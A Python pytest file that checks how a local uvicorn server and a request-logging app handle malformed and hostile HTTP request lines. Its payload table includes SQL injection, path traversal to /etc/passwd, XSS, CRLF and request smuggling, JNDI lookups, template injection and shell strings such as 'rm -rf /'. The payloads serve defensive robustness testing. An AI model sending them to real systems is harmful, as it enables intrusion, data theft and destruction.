"""Hostile request lines: refused by the server before the app, or data like any other, once."""

from __future__ import annotations

import json
import socket
from pathlib import Path
from urllib.parse import unquote

import pytest

from conftest import Lake
from servers import Server, settled, uvicorn

LINES: dict[str, list[bytes]] = {
    "SQL injection": [
        b"GET /p?id=1'%20OR%20'1'='1';%20DROP%20TABLE%20users;-- HTTP/1.1",
        b"GET /p/1)%20UNION%20SELECT%20null,null-- HTTP/1.1",
    ],
    "path traversal": [b"GET /../../../../etc/passwd HTTP/1.1", b"GET /a/..\\..\\win.ini HTTP/1.1"],
    "encoded traversal": [b"GET /%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1"],
    "double encoding": [b"GET /%252e%252e%252fetc?x=%2527 HTTP/1.1"],
    "XSS": [
        b"GET /<script>alert(1)</script> HTTP/1.1",
        b"GET /s?q=%3Cimg%20src=x%20onerror=alert(1)%3E&r=\"><svg/onload=1> HTTP/1.1",
    ],
    "CRLF injection": [b"GET /a%0d%0aSet-Cookie:%20x=1?n=%0a{\"interaction_id\":1}%0a HTTP/1.1"],
    "null bytes": [b"GET /a%00.png?x=%00 HTTP/1.1", b"GET /a\0b HTTP/1.1"],
    "overlong UTF-8": [b"GET /%c0%ae%c0%ae/%c0%af?x=%c1%81 HTTP/1.1", b"GET /\xc0\xae HTTP/1.1"],
    "surrogates": [b"GET /%ed%a0%80?x=%ed%b0%80&%ed%a0%80=1 HTTP/1.1"],
    "invalid escapes": [b"GET /%zz/%/%1?a=%&b=%g1&%=c HTTP/1.1"],
    "very long path": [b"GET /" + b"a" * n + b" HTTP/1.1" for n in (60_000, 200_000)],
    "unicode": [
        b"GET /%F0%9F%92%A9/%E6%9D%B1%E4%BA%AC?%E2%80%AE=%EF%BB%BF HTTP/1.1",
        "GET /東京?q=ünï HTTP/1.1".encode(),
    ],
    "shell metacharacters": [b"GET /;cat$IFS/etc/passwd|`id`&&$(id)?x=;rm+-rf+/ HTTP/1.1"],
    "lookups": [b"GET /${jndi:ldap://x.example/a}?x=${${lower:j}ndi:rmi://x} HTTP/1.1"],
    "templates": [b"GET /{{7*7}}?x={{config}}&y=<%=7*7%>&z=#{7*7}&w=${7*7} HTTP/1.1"],
    "absolute form": [b"GET http://evil.example/p?q=1 HTTP/1.1"],
    "asterisk form": [b"OPTIONS * HTTP/1.1"],
    "repeated slashes": [b"GET ////p///q//?//=// HTTP/1.1"],
    "semicolons": [b"GET /p;jsessionid=A1B2;v=1/q;x?a=1;b=2;c HTTP/1.1"],
    "huge query": [b"GET /p?" + b"a=1&" * 12_000 + b" HTTP/1.1"],
    "many names": [b"GET /p?" + b"&".join(b"k%d=%d" % (n, n) for n in range(5_000)) + b" HTTP/1.1"],
    "smuggling": [
        b"GET /p HTTP/1.1\r\ncontent-length: 2\r\ntransfer-encoding: chunked",
        b"GET /p HTTP/1.1\r\ncontent-length: 1\r\ncontent-length: 2",
        b"GET /p HTTP/1.1\r\ntransfer-encoding: \x0bchunked",
        b"GET /p HTTP/1.1\r\nx: a\rb",
    ],
    "methods": [
        b"BREW /p HTTP/1.1", b"GET\t/p HTTP/1.1", b"get /p HTTP/1.1", b"PROPFIND /p HTTP/1.1",
        b"TRACE /p HTTP/1.1", b"CONNECT x.example:443 HTTP/1.1", b"GE\0T /p HTTP/1.1",
        b"A" * 5_000 + b" /p HTTP/1.1",
    ],
    "versions": [
        b"GET /p HTTP/9.9", b"GET /p HTTP/1.0", b"GET /p", b"GET /p HTTP/1.1.1", b" HTTP/1.1",
    ],
    "headers": [
        b"GET /p HTTP/1.1\r\nuser-agent: \xff\xfe\"\\\x7f\r\nreferer: javascript:alert(1)",
        b"GET /p HTTP/1.1\r\nx-forwarded-for: <script>, ::1\r\nx-session-id: ' OR 1=1 --",
        b"GET /p HTTP/1.1\r\ntraceparent: 00-${jndi}-%00-\r\ncookie: session=\xff\xfe; session=",
        b"GET /p HTTP/1.1\r\nreferer: https://u:p4ssw0rd@x.example/reset/Qz7Rk2Lw9Tn?token=s3cr3t-abc",
    ],
}  # fmt: skip


def status(server: Server, line: bytes) -> int:
    """What a server answers to one raw request, 0 when it just closes."""
    heard = b""
    with server.connect() as client:
        try:
            client.sendall(line + b"\r\nhost: app.test\r\nconnection: close\r\n\r\n")
            while got := client.recv(65536):
                heard += got
        except ConnectionError:
            pass
    return int(heard.split()[1]) if heard.startswith(b"HTTP/1.") else 0


def reached(output: str) -> int:
    """How many calls the app itself counted."""
    return output.count("the app was called")


@pytest.mark.parametrize("app", ["apps:counted_plain", "apps:counted_fastapi"])
def test_hostile_request_lines_are_refused_before_the_app_or_recorded_once(
    lake: Lake, tmp_path: Path, app: str
) -> None:
    refused: list[str] = []
    sent = 0
    with uvicorn(app, lake.process_env(), folder=tmp_path) as server:
        for kind, lines in LINES.items():
            for line in lines:
                sent += 1
                answered = status(server, line)
                assert answered < 500, (kind, line[:80], answered)
                if answered in {0, 400}:
                    refused.append(kind)
        output = server.stop()
    calls = reached(output)
    assert calls == sent - len(refused), refused
    assert calls > len(LINES)
    report = settled(lake, calls)
    assert report.ok, report.faults
    assert report.sum["offered"] == report.sum["delivered"] == calls, (report.sum, report.reasons)
    _whole(lake, calls)


def _whole(lake: Lake, calls: int) -> None:
    """The log is one JSON object a line, whatever was in the request."""
    raw = b"".join(path.read_bytes() for path in sorted(lake.root.glob("raw/**/*.jsonl")))
    lines = raw.split(b"\n")
    assert lines.pop() == b""
    records = [json.loads(line) for line in lines]
    assert len(records) == calls
    assert all(isinstance(record, dict) for record in records)
    assert len({record["interaction_id"] for record in records}) == calls
    assert {record["interaction_type"] for record in records} == {"api_call"}
    paths = [unquote(record["path"]) for record in records]
    for piece in ("DROP TABLE", "UNION SELECT", "<script>", "${jndi:", "{{7*7}}", "etc/passwd"):
        assert any(piece in path or piece in json.dumps(record)
                   for path, record in zip(paths, records, strict=True)), piece  # fmt: skip
    for secret in (b"p4ssw0rd", b"Qz7Rk2Lw9Tn", b"s3cr3t-abc"):
        assert secret not in raw


def test_requests_that_follow_each_other_on_one_connection_are_as_many_records(
    lake: Lake, tmp_path: Path
) -> None:
    lines = [b"GET /<script>%00?x=%ff HTTP/1.1", b"GET /a;b//c HTTP/1.1"] * 20
    request = b"\r\nhost: app.test\r\n\r\n"
    with uvicorn("apps:counted_plain", lake.process_env(), folder=tmp_path) as server:
        with server.connect() as client:
            client.sendall(request.join(lines) + b"\r\nhost: app.test\r\nconnection: close\r\n\r\n")
            heard = b""
            while got := client.recv(65536):
                heard += got
        output = server.stop()
    assert heard.count(b"HTTP/1.1 200") == reached(output) == len(lines)
    report = settled(lake, len(lines))
    assert report.sum["delivered"] == len(lines)


def test_a_body_that_pretends_to_be_a_request_is_none(lake: Lake, tmp_path: Path) -> None:
    inner = b"GET /smuggled HTTP/1.1\r\nhost: app.test\r\n\r\n"
    outer = (
        b"POST /outer HTTP/1.1\r\nhost: app.test\r\nconnection: close\r\ncontent-length: %d\r\n\r\n"
    )
    with uvicorn("apps:counted_plain", lake.process_env(), folder=tmp_path) as server:
        with socket.create_connection(("127.0.0.1", server.port), timeout=120) as client:
            client.sendall(outer % len(inner) + inner)
            while client.recv(65536):
                pass
        server.stop()
    settled(lake, 1)
    assert [row["path"] for row in lake.rows()] == ["/outer"]
